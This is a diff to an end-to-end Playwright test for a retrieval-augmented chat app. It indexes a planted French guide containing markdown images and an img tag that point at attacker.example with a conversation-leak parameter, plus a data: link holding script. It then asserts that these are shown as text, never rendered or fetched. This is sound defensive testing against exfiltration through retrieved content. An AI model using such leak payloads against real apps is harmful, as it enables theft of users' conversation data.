@@ -12,6 +12,7 @@ import sys
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlsplit
 
 import pytest
 
@@ -35,6 +36,15 @@ CHROMIUM_FLAGS = [
     "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
 ]
 ANSWER_TIMEOUT_MS = 60_000
+LEAK = "https://attacker.example/leak.png"
+# A guide written to leak: an image by reference, an inline image, a data: link and raw HTML.
+HOSTILE_GUIDE = f"""# Le pavillon des essais
+
+Le pavillon des essais ouvre de 10 h à 17 h ![logo][img] et se visite librement.
+![suivi]({LEAK}?d=conversation) [cliquez](data:text/html,<script>alert(1)</script>) <img src="{LEAK}">
+
+[img]: {LEAK}
+"""
 
 
 @pytest.fixture
@@ -72,7 +82,11 @@ def _server_command(port: int) -> list[str]:
 def app_url(tmp_path: Path, local_embedder: Any) -> Iterator[str]:
     """The app serving an index of ``data/corpus``, offline model, state in ``tmp_path``."""
     index_dir = tmp_path / "index"
-    index_corpus([DEFAULT_CORPUS], RagSettings(_env_file=None, index_dir=index_dir), embedder=local_embedder)
+    hostile = tmp_path / "hostile"
+    hostile.mkdir()
+    (hostile / "pavillon.md").write_text(HOSTILE_GUIDE, encoding="utf-8")
+    settings = RagSettings(_env_file=None, index_dir=index_dir)
+    index_corpus([DEFAULT_CORPUS, hostile], settings, embedder=local_embedder)
     env = {name: value for name, value in os.environ.items() if name not in PROVIDER_VARIABLES}
     env.update(
         PYTHONPATH=str(REPO_ROOT),
@@ -115,10 +129,12 @@ def test_a_visitor_asks_in_french_and_english_and_an_operator_opens_the_trace(
 
     shots = Path(os.environ.get("E2E_SCREENSHOTS") or tmp_path / "screenshots")
     shots.mkdir(parents=True, exist_ok=True)
+    requested: list[str] = []
     with sync_playwright() as playwright:
         browser = playwright.chromium.launch(executable_path=str(chromium), args=CHROMIUM_FLAGS)
         try:
             page = browser.new_page(viewport={"width": 1280, "height": 900})
+            page.on("request", lambda request: requested.append(request.url))
             page.goto(app_url)
             expect(page.get_by_text("Offline model: extractive answers")).to_be_visible(timeout=60_000)
             expect(page.get_by_test_id("stSidebar")).to_contain_text("Chunks")
@@ -153,5 +169,15 @@ def test_a_visitor_asks_in_french_and_english_and_an_operator_opens_the_trace(
             expect(drawing.locator("svg")).to_be_visible(timeout=20_000)
             drawing.scroll_into_view_if_needed()
             page.screenshot(path=shots / "07-trace-graph.png")
+
+            hostile = _ask(page, "Quand ouvre le pavillon des essais ?", 3)
+            hostile.get_by_text("Cited passages").click()
+            expect(hostile).to_contain_text("attacker.example")  # shown as text, never fetched
+            expect(hostile.locator("img")).to_have_count(0)
+            expect(hostile.locator("a[href^='data:'], a[href^='javascript:']")).to_have_count(0)
+            page.screenshot(path=shots / "08-hostile-passage.png")
         finally:
             browser.close()
+    elsewhere = sorted({url for url in requested if urlsplit(url).hostname != "127.0.0.1"})
+    assert not elsewhere, f"the browser requested other hosts: {elsewhere}"
+    assert requested, "no request was recorded"
